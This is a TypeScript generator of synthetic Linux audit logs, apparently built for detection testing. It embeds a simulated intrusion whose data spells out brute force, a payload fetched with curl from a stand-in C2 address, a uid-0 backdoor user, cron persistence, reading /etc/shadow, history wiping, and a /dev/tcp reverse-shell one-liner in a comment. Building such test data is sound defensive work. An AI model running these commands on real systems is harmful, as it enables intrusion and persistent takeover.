/** Internet background noise: bots guessing passwords from many addresses. */
function* sshNoise(h: Host): Activity {
  const r = h.rng;
  for (;;) {
    yield r.exp(BOT_MEAN_GAP_MS);
    const ip = h.botIp();
    const account = r.pick(BOT_USERS);
    for (let c = r.int(1, 3); c > 0; c--) {
      yield* failedSsh(h, ip, account, r.int(1, 5), [1_800, 3_500]);
      yield r.int(500, 8000);
    }
  }
}

// ---------------------------------------------------------------------------------------------
// The story
// ---------------------------------------------------------------------------------------------

const STORY = {
  attackerIp: "198.51.100.77",
  c2Ip: "203.0.113.7",
  c2Port: 4444,
  victim: "alice",
  pts: 1,
  /** `sdo`, two backspaces (DEL), `udo su -`, Enter. */
  sudoTyped: "sdo\x7f\x7fudo su -\r",
  sudoLine: "sudo su -",
  sudoCmd: "su -",
  c2Commands: [["id"], ["uname", "-a"], ["cat", "/etc/shadow"]],
  url: "http://203.0.113.7/a.sh",
  script: "/tmp/a.sh",
  cronFile: "/etc/cron.d/sysupdate",
  cronLine: "@reboot root /tmp/a.sh",
  newUser: "sysupd",
  bruteConnections: 6,
  attemptsPerConnection: 6,
} as const;

function* story(h: Host, truth: StoryTruth): Activity {
  const r = h.rng;
  truth.startSec = h.w.sec;
  truth.firstSerial = h.truth.lastSerial + 1;

  // 1. Brute force on root from one address: parallel connections, ~2.5 s between tries.
  const bf = truth.bruteForce;
  bf.firstSec = h.w.sec;
  let running = 0;
  const connection = function* (): Activity {
    running++;
    const pid = yield* failedSsh(
      h,
      STORY.attackerIp,
      "root",
      STORY.attemptsPerConnection,
      [2_000, 3_200],
      true,
    );
    bf.sshdPids.push(pid);
    bf.attempts += STORY.attemptsPerConnection;
    bf.connections++;
    bf.lastSec = h.w.sec;
    running--;
  };
  for (let c = 0; c < STORY.bruteConnections; c++) {
    h.spawn(connection(), r.int(0, 300));
    yield r.int(4_000, 9_000);
  }
  while (running > 0) yield 1000;
  yield r.int(20_000, 40_000);

  // 2. A successful password login as alice from the same address.
  const alice = user(STORY.victim);
  const s = yield* sshLogin(h, alice, STORY.attackerIp, STORY.pts, true);
  truth.session = {
    ses: s.shell.ses,
    auid: s.shell.auid,
    loginSerial: s.loginSerial,
    loginSec: h.w.sec,
    sshdPid: s.monitor.pid,
    shellPid: s.shell.pid,
    terminal: s.terminal,
    endSec: 0,
  };
  yield r.int(6_000, 15_000);

  // The TTY records of a shell, noted as they are typed.
  const typeAt = function* (
    shell: Proc,
    line: string,
    typed = `${line}\r`,
  ): Generator<number, LineRun, undefined> {
    const run = yield* runLine(h, shell, line, typed);
    const tty: StoryTty = {
      serial: run.ttySerial,
      pid: shell.pid,
      uid: shell.uid,
      dataHex: run.dataHex,
      typed,
      line,
    };
    truth.tty.push(tty);
    return run;
  };

  // 3. `sudo su -` typed with a typo fixed by two backspaces: sudo → su → root shell.
  const sudoRun = yield* typeAt(s.shell, STORY.sudoLine, STORY.sudoTyped);
  const sudo = sudoRun.procs[0];
  if (!sudo) throw new Error("sudo did not run");
  yield r.int(1_500, 4_000);
  const sudoMsg = { exe: "/usr/bin/sudo", terminal: s.terminal, success: true };
  h.user("USER_AUTH", sudo, {
    ...sudoMsg,
    op: "PAM:authentication",
    grantors: PAM.sudoAuth,
    acct: alice.name,
  });
  yield r.int(1, 4);
  h.user("USER_ACCT", sudo, { ...sudoMsg, op: "PAM:accounting", grantors: PAM.sudoAcct, acct: alice.name });
  const userCmdSerial = h.user("USER_CMD", sudo, {
    lead: `cwd=${auditString(sudo.cwd)} cmd=${auditString(STORY.sudoCmd)}`,
    exe: "/usr/bin/sudo",
    terminal: `pts/${STORY.pts}`,
    success: true,
    noPeer: true,
  });
  h.user("CRED_REFR", sudo, { ...sudoMsg, op: "PAM:setcred", grantors: PAM.sudoCred, acct: "root" });
  h.user("USER_START", sudo, { ...sudoMsg, op: "PAM:session_open", grantors: PAM.sudoSession, acct: "root" });
  const su = h.exec({ ...sudo, uid: 0, gid: 0, euid: 0, egid: 0 }, { argv: ["su", "-"] });
  const root = yield* suLogin(h, su, s.terminal);
  const sudoTty = truth.tty[0];
  if (!sudoTty) throw new Error("no sudo TTY record");
  truth.sudo = {
    tty: sudoTty,
    cmd: STORY.sudoCmd,
    userCmdSerial,
    sudoPid: sudo.pid,
    suPid: su.pid,
    rootShellPid: root.pid,
  };

  // 4. Download, make executable, run.
  yield r.int(4_000, 9_000);
  yield* typeAt(root, "cd /tmp");
  yield r.int(3_000, 7_000);
  const curl = (yield* typeAt(root, `curl -O ${STORY.url}`)).procs[0];
  if (!curl) throw new Error("curl did not run");
  yield r.int(20, 80);
  truth.download = {
    url: STORY.url,
    file: STORY.script,
    connectSerial: h.connect(curl, STORY.c2Ip, 80),
    curlPid: curl.pid,
  };
  yield r.int(4_000, 8_000);

  const chmod = (yield* typeAt(root, `chmod +x ${STORY.script}`)).procs[0];
  if (!chmod) throw new Error("chmod did not run");
  yield r.int(1, 3);
  const chmodSerial = h.fileSyscall(
    chmod,
    268, // fchmodat
    ["ffffff9c", r.pointer(), "1ed", "0"],
    0,
    [{ name: STORY.script, nametype: "NORMAL", mode: "0100644", type: "user_tmp_t" }],
    "perm_mod",
  );
  truth.chmod = { file: STORY.script, serial: chmodSerial, mode: "0755" };
  yield r.int(3_000, 6_000);

  // 5. The script: a root-equivalent user, cron persistence, a reverse shell.
  const scriptRun = yield* typeAt(root, STORY.script);
  const script = scriptRun.procs[0];
  const scriptExec = truth.execs[truth.execs.length - 1];
  if (!script || !scriptExec) throw new Error("the script did not run");
  truth.script = { path: STORY.script, pid: script.pid, serial: scriptExec.serial };
  yield r.int(5, 30);

  const useradd = h.exec(script, {
    argv: ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-s", "/bin/bash", STORY.newUser],
  });
  yield r.int(2, 10);
  // shadow-utils opens the database read-write, then renames /etc/passwd+ over it.
  const openSerial = h.fileSyscall(
    useradd,
    257, // openat, O_RDWR
    ["ffffff9c", r.pointer(), "2", "0"],
    5,
    [{ name: "/etc/passwd", nametype: "NORMAL", mode: "0100644", type: "passwd_file_t" }],
    "identity",
  );
  yield r.int(5, 20);
  const renameSerial = h.fileSyscall(
    useradd,
    82, // rename
    [r.pointer(), r.pointer(), r.pointer(), "0"],
    0,
    [
      { name: "/etc/", nametype: "PARENT", mode: "040755", type: "etc_t" },
      { name: "/etc/", nametype: "PARENT", mode: "040755", type: "etc_t" },
      { name: "/etc/passwd+", nametype: "DELETE", mode: "0100644", type: "passwd_file_t" },
      { name: "/etc/passwd", nametype: "DELETE", mode: "0100644", type: "passwd_file_t" },
      {
        name: "/etc/passwd",
        nametype: "CREATE",
        mode: "0100644",
        type: "passwd_file_t",
        inode: inodeOf("/etc/passwd+"),
      },
    ],
    "identity",
  );
  yield r.int(1, 5);
  const addUserSerial = h.user("ADD_USER", useradd, {
    op: "add-user",
    acct: STORY.newUser,
    exe: "/usr/sbin/useradd",
    terminal: `pts/${STORY.pts}`,
    success: true,
  });
  truth.passwd = { user: STORY.newUser, uid: 0, addUserSerial, openSerial, renameSerial };
  yield r.int(20, 80);

  // `echo … > /etc/cron.d/sysupdate`: bash opens the file itself (a builtin needs no fork).
  const cronSerial = h.fileSyscall(
    script,
    257, // openat, O_WRONLY|O_CREAT|O_TRUNC, 0666
    ["ffffff9c", r.pointer(), "241", "1b6"],
    3,
    [
      { name: "/etc/cron.d/", nametype: "PARENT", mode: "040755", type: "system_cron_spool_t" },
      { name: STORY.cronFile, nametype: "CREATE", mode: "0100644", type: "system_cron_spool_t" },
    ],
    "cron",
  );
  truth.cron = { file: STORY.cronFile, serial: cronSerial, pid: script.pid, line: STORY.cronLine };
  yield r.int(10, 40);

  // `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &`: the forked child connects, then execs bash.
  const child: Proc = { ...script, pid: h.allocPid(), ppid: script.pid };
  const c2Serial = h.connect(child, STORY.c2Ip, STORY.c2Port);
  yield r.int(1, 3);
  const revShell = h.exec(child, { argv: ["bash", "-i"], inPlace: true });
  truth.c2 = {
    ip: STORY.c2Ip,
    port: STORY.c2Port,
    address: `${STORY.c2Ip}:${STORY.c2Port}`,
    connectSerial: c2Serial,
    pid: child.pid,
    shellPid: revShell.pid,
  };
  // The operator looks around through the reverse shell.
  for (const argv of STORY.c2Commands) {
    yield r.int(3_000, 9_000);
    h.exec(revShell, { argv: [...argv] });
  }

  // 6. Cover tracks and leave.
  yield r.int(10_000, 20_000);
  yield* typeAt(root, "history -c");
  yield r.int(2_000, 4_000);
  yield* typeAt(root, "exit");
  yield r.int(1, 10);
  yield* suClose(h, su, s.terminal);
  yield* sudoClose(h, sudo, s.terminal);
  h.release(root);
  yield r.int(1_500, 3_000);
  yield* typeAt(s.shell, "exit");
  yield r.int(5, 50);
  yield* sshLogout(h, s, alice);

  truth.endSec = h.w.sec;
  truth.session.endSec = h.w.sec;
  truth.lastSerial = h.truth.lastSerial;
  h.truth.storyComplete = true;
}

function emptyStory(): StoryTruth {
  const alice = user(STORY.victim);
  const tty: StoryTty = { serial: 0, pid: 0, uid: 0, dataHex: "", typed: "", line: "" };
  return {
    attackerIp: STORY.attackerIp,
    bruteForce: { account: "root", attempts: 0, connections: 0, sshdPids: [], firstSec: 0, lastSec: 0 },
    victim: { user: alice.name, uid: alice.uid, home: alice.home },
    session: {
      ses: 0,
      auid: 0,
      loginSerial: 0,
      loginSec: 0,
      sshdPid: 0,
      shellPid: 0,
      terminal: "",
      endSec: 0,
    },
    sudo: { tty, cmd: "", userCmdSerial: 0, sudoPid: 0, suPid: 0, rootShellPid: 0 },
    tty: [],
    execs: [],
    download: { url: STORY.url, file: STORY.script, connectSerial: 0, curlPid: 0 },
    chmod: { file: STORY.script, serial: 0, mode: "" },
    script: { path: STORY.script, pid: 0, serial: 0 },
    cron: { file: STORY.cronFile, serial: 0, pid: 0, line: STORY.cronLine },
    passwd: { user: STORY.newUser, uid: 0, addUserSerial: 0, openSerial: 0, renameSerial: 0 },
    c2: {
      ip: STORY.c2Ip,
      port: STORY.c2Port,
      address: `${STORY.c2Ip}:${STORY.c2Port}`,
      connectSerial: 0,
      pid: 0,
      shellPid: 0,
    },
    firstSerial: 0,
    lastSerial: 0,
    startSec: 0,
    endSec: 0,
  };
}

// ---------------------------------------------------------------------------------------------
// Entry points
// ---------------------------------------------------------------------------------------------

const DEFAULT_START_SEC = 1_736_935_200; // 2025-01-15T10:00:00Z
const CHUNK_BYTES = 64 * 1024;
const FLUSH_AT = 48 * 1024;

export function createGenerator(options: GeneratorOptions): {
  chunks: Generator<string>;
  truth: GroundTruth;
} {
  const seed = (options.seed ?? 1) >>> 0;
  const startSec = options.startSec ?? DEFAULT_START_SEC;
  const node = options.node ?? null;
  const eoe = options.eoe ?? true;
  const format = options.format ?? "raw";
  const withStory = options.story ?? true;
  const truth: GroundTruth = {
    seed,
    startSec,
    node,
    host: HOST,
    eoe,
    format,
    events: 0,
    records: 0,
    lines: 0,
    bytes: 0,
    sessions: 0,
    execs: 0,
    failedLogins: 0,
    failedAuths: 0,
    ttyRecords: 0,
    recordTypes: {},
    firstSerial: 0,
    lastSerial: 0,
    lastSec: startSec,
    pidWraps: 0,
    story: null,
    storyComplete: !withStory,
  };
  return {
    chunks: run(options.targetBytes, seed, startSec, node, eoe, withStory, format === "enriched", truth),
    truth,
  };
}

function* run(
  targetBytes: number,
  seed: number,
  startSec: number,
  node: string | null,
  eoe: boolean,
  withStory: boolean,
  enriched: boolean,
  truth: GroundTruth,
): Generator<string> {
  // Seed 0 would make the stream depend on nothing but the increment: mix it first.
  const h = new Host(
    hash32(`auditscope:${seed}`),
    truth,
    startSec * 1000 + 117,
    node,
    eoe,
    [STORY.attackerIp, STORY.c2Ip],
    enriched,
  );
  const w = h.w;
  h.spawn(daemonStart(h));
  h.spawn(cronDaemon(h), 1_000);
  h.spawn(agentLoop(h), 2_000);
  h.spawn(webApp(h), 3_000);
  for (const t of TIMERS) h.spawn(timer(h, t), 0);
  h.spawn(adminSessions(h), 0);
  h.spawn(sshNoise(h), 0);
  if (withStory) {
    truth.story = emptyStory();
    h.story = truth.story;
    h.spawn(story(h, truth.story), 45_000 + h.rng.int(0, 15_000));
  }
  while (truth.bytes < targetBytes || !truth.storyComplete) {
    const next = h.schedule.pop();
    if (!next) break;
    if (next.at > w.now) w.now = next.at;
    const step = next.activity.next();
    if (!step.done) h.schedule.add(w.now + Math.max(0, step.value), next.activity);
    if (w.pendingBytes >= FLUSH_AT) yield* w.drain(CHUNK_BYTES);
  }
  if (w.pendingBytes > 0) yield* w.drain(CHUNK_BYTES);
}

/** The log as chunks of whole lines (each at most 64 KiB, ending in "\n"). */
export function* generateLog(options: GeneratorOptions): Generator<string> {
  yield* createGenerator(options).chunks;
}
